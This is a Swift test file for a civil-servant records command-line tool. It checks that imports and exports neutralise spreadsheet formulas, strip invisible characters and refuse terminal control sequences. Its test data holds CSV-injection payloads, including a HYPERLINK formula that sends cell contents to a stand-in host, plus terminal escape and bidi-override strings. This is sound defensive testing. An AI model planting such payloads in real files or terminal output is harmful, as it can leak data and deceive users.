import CityDatabase
import Foundation
import TestSupport
import Testing

/// Characters from outside in names: invisible ones, ones that a spreadsheet runs, ones that a terminal obeys.
@Suite("Texts from outside", .timeLimit(.minutes(20)))
struct OutsideTextTests {
    private static let header =
        "nip_baru,nama,gelar_depan,gelar_belakang,tanggal_lahir,jenis_kelamin,status_cpns_pns,jenis_pegawai_nama,"
        + "kedudukan_hukum_nama,tmt_cpns,gol_akhir_id,gol_akhir_nama,tmt_golongan,tingkat_pendidikan_id,pendidikan_nama,"
        + "tmt_pns"

    private static func person(_ nip: String, _ name: String, born: String, education: String = "S-1") -> String {
        "\(nip),\(name),,,\(born),M,P,PNS Daerah,Aktif,01-03-2015,32,III/b,01-04-2021,40,\(education),01-03-2016"
    }

    private static func write(_ header: String = header, _ lines: String...) throws -> String {
        try SampleFile.write(([header] + lines).joined(separator: "\n") + "\n")
    }

    /// Figures of an import: added, changed, unchanged, rejected.
    private static func imported(_ file: String, _ stage: CommandStage) async throws -> [Int?] {
        let rows = try await stage.rows("import", "people", file, "--agency", "dinkes")
        return ["added", "changed", "unchanged", "rejected"].map { rows.first?[$0] as? Int }
    }

    // Case 02: https://github.com/NHSDigital/manage-vaccinations-in-schools/pull/3410 and others.
    @Test("no-break and zero-width spaces in header, NIP, date and name change nothing")
    func invisible() async throws {
        let stage = try await CommandStage.make()
        let header = try Self.write(
            "nip_baru\u{A0}" + Self.header.dropFirst("nip_baru".count),
            Self.person("199201092015031039", "Sembilan Contoh", born: "09-01-1992")
        )
        #expect(try await Self.imported(header, stage) == [1, 0, 0, 0])
        let people = try Self.write(
            Self.header,
            Self.person("199201012015031031\u{A0}", "Satu Contoh", born: "01-01-1992"),
            Self.person("\u{200B}199201022015031032", "Dua Contoh", born: "02-01-1992"),
            Self.person("199201032015031033", "Tiga Contoh\u{A0}", born: "03-01-1992"),
            Self.person("199201042015031034", "Empat\u{A0}Contoh", born: "04-01-1992\u{A0}"),
            Self.person("199201052015031035\u{FEFF}", "Lima\u{2060} Contoh", born: "05-01-1992")
        )
        #expect(try await Self.imported(people, stage) == [5, 0, 0, 0])
        let clean = try Self.write(
            Self.header,
            Self.person("199201032015031033", "Tiga Contoh", born: "03-01-1992"),
            Self.person("199201042015031034", "Empat Contoh", born: "04-01-1992"),
            Self.person("199201052015031035", "Lima Contoh", born: "05-01-1992")
        )
        #expect(try await Self.imported(clean, stage) == [0, 0, 3, 0])
    }

    // Case 22: OWASP, "CSV injection"; https://github.com/kitokoh/leopardo-hr/issues/4169.
    @Test("an export runs in no spreadsheet, rounds no NIP, and importing it again changes nothing")
    func formulas() async throws {
        let stage = try await CommandStage.make()
        let formula = "\"=HYPERLINK(\"\"http://example.invalid/?\"\"&A2,\"\"S-1\"\")\""
        let file = try Self.write(
            Self.header,
            Self.person("199204042015031084", "=1+1", born: "04-04-1992", education: formula),
            Self.person("199204052015031085", "'Aisyah", born: "05-04-1992"),
            Self.person("199204062015031086", "''Aisyah", born: "06-04-1992", education: "-"),
            Self.person("199204072015031087", "Ma'ruf", born: "07-04-1992", education: "@SUM(A1)")
        )
        #expect(try await Self.imported(file, stage) == [4, 0, 0, 0])
        let output = file + ".out"
        defer { try? FileManager.default.removeItem(atPath: output) }
        #expect(try await stage("export", "people", "--agency", "dinkes", "--output", output).status == 0)
        let lines = try String(contentsOfFile: output, encoding: .utf8).split(separator: "\n")
        #expect(lines.count == 5)
        #expect(lines[1].hasPrefix("'199204042015031084,'=1+1,,,04-04-1992,M,PNS,Aktif,P,"))
        #expect(lines[1].hasSuffix(",40,\"'\(formula.dropFirst())"))
        #expect(lines[2].hasPrefix("'199204052015031085,Aisyah,"), "one apostrophe is the spreadsheet's")
        #expect(lines[3].hasPrefix("'199204062015031086,''Aisyah,") && lines[3].hasSuffix(",'-"))
        #expect(lines[4].hasPrefix("'199204072015031087,Ma'ruf,") && lines[4].hasSuffix(",'@SUM(A1)"))
        #expect(try await Self.imported(output, stage) == [0, 0, 4, 0])
        let names = try await stage.city.psql("select name from person order by nip")
        #expect(names == "=1+1\nAisyah\n'Aisyah\nMa'ruf\n")
    }

    @Test("every kind with typed words comes back from its export unchanged")
    func registers() async throws {
        let stage = try await CommandStage.make(people: 2)
        let nip = SampleFile.nip(1)
        let files = [
            (
                "posts", SampleFile.postsHeader,
                SampleFile.post(1, unit: "12345678901234567890", title: "+Staf", since: "01-02-2022")
            ),
            ("awards", "nip,hargaNama,tingkat,skNomor,skTanggal", "\(nip),=Satya,Nasional,-12/2020,01-02-2020"),
            ("duties", "nip,namaTim,peran,lingkup,skNomor,mulai", "\(nip),@Tim,Ketua,Internal,+1,01-02-2024"),
            (
                "training", "nip,jenisDiklat,namaDiklat,nomorSertipikat,tanggalSelesai",
                "\(nip),=x,-Diklat,-7,01-02-2020"
            ),
            (
                "discipline", "nip,jenisTingkatHukumanId,jenisHukuman,skNomor,hukumanTanggal",
                "\(nip),R,=Teguran,@1,01-02-2020"
            ),
        ]
        for (kind, header, line) in files {
            let file = try Self.write(header, line)
            let first = try await stage("import", kind, file, "--agency", "dinkes")
            #expect(first.status == 0, "\(kind): \(first.standardError)")
            let output = file + ".out"
            defer { try? FileManager.default.removeItem(atPath: output) }
            #expect(try await stage("export", kind, "--agency", "dinkes", "--output", output).status == 0)
            let rows = try RuleSets.rows(Array(try Data(contentsOf: URL(filePath: output))))
            let text = try String(contentsOfFile: output, encoding: .utf8)
            #expect(!text.contains(/(^|,|\n)[=+@-]/) && !rows.isEmpty, "\(kind)")
            let again = try await stage.rows("import", kind, output, "--agency", "dinkes")
            #expect(again.first?["unchanged"] as? Int == rows.count, "\(kind): \(again)")
        }
    }

    @Test("a list in CSV has apostrophes, in JSON none")
    func lists() async throws {
        let stage = try await CommandStage.make(people: 1)
        #expect(try await stage("agency", "rename", "dlh", "--name", "=1+1", "--short-name", "@x").status == 0)
        let csv = try await stage("agency", "list", "--format", "csv").standardOutput
        #expect(csv.contains("\ndlh,'@x,dinas,active,'=1+1\n"))
        let json = try await stage.rows("agency", "list")
        #expect(json.contains { $0["name"] as? String == "=1+1" && $0["short_name"] as? String == "@x" })
        let holidays = try SampleFile.write("day,name,kind\n2027-02-01,'=Libur\u{A0}kota,local\n")
        #expect(try await stage("holiday", "import", holidays).status == 0)
        let listed = try await stage("holiday", "list", "--year", "2027", "--format", "csv").standardOutput
        #expect(listed == "day,name,kind\n2027-02-01,'=Libur kota,local\n")
        let again = try await stage("holiday", "import", try SampleFile.write(listed))
        #expect(again.standardError.contains("new or changed: 0 of 1 day;"))
    }

    @Test("a row with a control character is rejected by line, column and character, and never shown")
    func rejectedRows() async throws {
        let stage = try await CommandStage.make()
        let file = try Self.write(
            Self.header,
            Self.person("199204042015031084", "\u{1B}[31mRed\u{7}", born: "04-04-1992"),
            Self.person("199204052015031085", "Dua Contoh", born: "05-04-1992", education: "S-1\u{202E}"),
            Self.person("199204062015031086", "\"Tiga\nContoh\"", born: "06-04-1992"),
            Self.person("199204072015031087", "Empat Contoh", born: "07-04-1992")
        )
        let rejects = file + ".rejects"
        defer { try? FileManager.default.removeItem(atPath: rejects) }
        let (status, text) = try await stage.shown([
            "import", "people", file, "--agency", "dinkes", "--rejects", rejects,
        ])
        #expect(status == 65 && !text.contains("\u{1B}") && !text.contains("Red"))
        #expect(
            try String(contentsOfFile: rejects, encoding: .utf8) == """
                line,column,code,reason
                2,nama,control_character,the text holds the control character U+001B
                3,pendidikan_nama,control_character,the text holds the control character U+202E
                4,nama,control_character,the text holds the control character U+000A

                """
        )
        // Corrected in place, with the character that the spreadsheet puts before a NIP.
        let mended = try Self.write(
            Self.header,
            Self.person("'199204042015031084", "Red", born: "04-04-1992"),
            Self.person("'199204052015031085", "Dua Contoh", born: "05-04-1992"),
            Self.person("'199204062015031086", "Tiga Contoh", born: "06-04-1992"),
            Self.person("'199204072015031087", "Empat Contoh", born: "07-04-1992")
        )
        #expect(try await Self.imported(mended, stage) == [3, 0, 1, 0])
        let agencies = try SampleFile.write("code,name,kind\ndishub,Dinas \u{9B}31m,dinas\n")
        let refused = try await stage("agency", "add", "--from", agencies)
        #expect(refused.status == 65 && refused.standardError.contains("line 2: it holds the control character U+009B"))
    }

    @Test(
        "a typed text with a control character is refused with its option's name, and never shown",
        arguments: [
            ["agency", "rename", "dlh", "--name", "\u{1B}]0;Planted\u{7}"],
            ["agency", "add", "dishub", "--name", "Dishub", "--short-name", "Planted\u{85}", "--kind", "dinas"],
            ["run", "pause", "1", "--note", "Planted\u{2028}"],
            ["job", "pause", "--kind", "x", "--note", "Planted\u{7F}"],
            ["person", "export", "198001022005031001", "--purpose", "Planted\u{202E}"],
            [
                "cycle", "recompute", "2026-Q3", "--rules", "2026.1", "--by", SampleFile.nip(1), "--reason",
                "Planted\u{1B}[2J",
            ],
        ]
    )
    func typedTexts(_ words: [String]) async throws {
        let stage = try await CommandStage.make()
        let result = try await Program.built("mutasi").run(words, environment: stage.environment)
        #expect(result.status == 64 && !result.standardError.contains("Planted"), "\(result.standardError)")
        let option = try #require(words.last { $0.hasPrefix("--") && $0 != "--kind" })
        #expect(result.standardError.hasPrefix("error: \(option) "))
        #expect(try await stage.city.psql("select count(*) from agency_name where name ~ 'Planted'") == "0\n")
    }

    @Test("an unreadable name of the person who works is a configuration error")
    func actor() async throws {
        let stage = try await CommandStage.make()
        let environment = stage.environment.merging(["MUTASI_ACTOR": "Planted\u{1B}[2J"]) { $1 }
        let result = try await Program.built("mutasi").run(["agency", "list"], environment: environment)
        #expect(result.status == 78 && !result.standardError.contains("Planted"))
        #expect(result.standardError.hasPrefix("error: MUTASI_ACTOR holds the control character U+001B"))
    }

    @Test("a typed text loses invisible characters")
    func cleanedWords() async throws {
        let stage = try await CommandStage.make()
        #expect(
            try await stage("agency", "rename", "dlh", "--name", "\u{FEFF}Dinas\u{A0}Lingkungan\u{200B} ").status == 0
        )
        #expect(try await stage.rows("agency", "show", "dlh").first?["name"] as? String == "Dinas Lingkungan")
    }

    @Test("the program's own words show the typed text, and no terminal obeys it")
    func usage() async throws {
        let stage = try await CommandStage.make()
        for words in [["cycle", "show", "\u{1B}[31m2026"], ["agency", "\u{9B}2J"]] {
            let result = try await Program.built("mutasi").run(words, environment: stage.environment)
            #expect(result.status == 64 && !result.standardError.contains { $0 == "\u{1B}" || $0 == "\u{9B}" })
            #expect(result.standardError.contains("\\u{"))
        }
        let help = try await Program.built("mutasi").run(["agency", "add", "--help"])
        #expect(help.status == 0 && help.standardOutput.contains("USAGE: mutasi agency add"))
        for program in ["mutasi", "mutasid"] {
            #expect(try await Program.built(program).run(["--version"]).standardOutput == "0.2.0\n")
        }
    }

    /// The parts of a shown text that a terminal would obey, except our own colours, cursor and line ends; none is
    /// planted.
    private static func obeyed(_ shown: String) -> [String] {
        shown.replacing(/\u{1B}\[\??[0-9;]*[mlhAJK]/, with: "").unicodeScalars
            .filter {
                switch $0.value {
                case 0x0A, 0x0D, 0x09: false
                case 0x00...0x1F, 0x7F...0x9F, 0x2028...0x202E, 0x2066...0x2069: true
                default: false
                }
            }
            .map { String($0.value, radix: 16) }
    }

    @Test("no list, page or message of a city whose names hold control characters commands the terminal")
    func terminal() async throws {
        let stage = try await CommandStage.make(people: 3)
        try #require(try await stage("cycle", "run", "2026-Q3").status == 0)
        let id = try #require(try await stage.rows("run", "list", "--state", "all").first?["id"] as? Int)
        let text = "chr(27) || ']0;Planted' || chr(7) || chr(155) || '2J' || chr(8238) || chr(8232) || chr(127)"
        _ = try await stage.city.psql(
            """
            do $$
            declare
                command text;
            begin
                for command in
                    select format('alter table %s drop constraint %I', conrelid::regclass, conname)
                    from pg_constraint where conname like '%_text_check' and connamespace = 'medan'::regnamespace
                loop execute command; end loop;
            end $$;
            set session_replication_role = replica;
            update person set name = name || \(text), back_title = \(text);
            update post set title = title || \(text);
            update org_unit set name = \(text);
            update agency_name set name = \(text), short_name = \(text);
            update run set pause_note = \(text), is_paused = true where run_id = \(id);
            update run_chunk set last_error = \(text), state = 'failed' where run_id = \(id);
            insert into run_failure (agency_id, run_id, key, code, reason)
            select agency_id, \(id), employment_id, 'x', \(text) from employment limit 1;
            update holiday set name = \(text)
            """
        )
        let nip = SampleFile.nip(1)
        for command in [
            "agency list", "agency list --format csv", "agency list --format json", "agency show dinkes",
            "cycle show 2026-Q3",
            "cycle missing 2026-Q3", "cycle distribution 2026-Q3 --agency dinkes", "cycle severity 2026-Q3",
            "appraisal show 2026-Q3 \(nip) --agency dinkes",
            "appraisal show 2026-Q3 \(nip) --agency dinkes --format json",
            "talent show 2026-Q3 --nip \(nip) --agency dinkes", "talent due --eligible",
            "talent retirements --months 600",
            "talent critical", "talent vacancies", "quality --list", "run list --state all",
            "run show \(id) --failures",
            "run show \(id) --failures --format csv", "holiday list", "chart nine-box --agency dinkes", "chart ages",
            "chart tenure --agency dinkes --as csv", "chart tenure --agency dinkes --as html", "job list",
            "person export \(nip) --purpose test", "run watch \(id) --interval 0.05",
        ] {
            // The run that is watched has ended.
            if command.hasPrefix("run watch") { _ = try await stage.city.psql("update run set state = 'failed'") }
            let (status, shown) = try await stage.shown(command.split(separator: " ").map(String.init))
            #expect([0, 2].contains(status) && !shown.isEmpty, "\(command): \(status) \(shown.debugDescription)")
            #expect(Self.obeyed(shown).isEmpty, "\(command): \(Self.obeyed(shown))")
        }
        // In a pipe CSV is data, and exact.
        let csv = try await stage("agency", "list", "--format", "csv").standardOutput
        #expect(csv.contains("\u{1B}]0;Planted\u{7}\u{9B}2J\u{202E}\u{2028}\u{7F}"))
        let json = try await stage("agency", "list", "--format", "json").standardOutput
        #expect(Self.obeyed(json).isEmpty && json.contains(#"\u001b]0;Planted\u0007\u009b2J\u202e\u2028\u007f"#))
    }
}
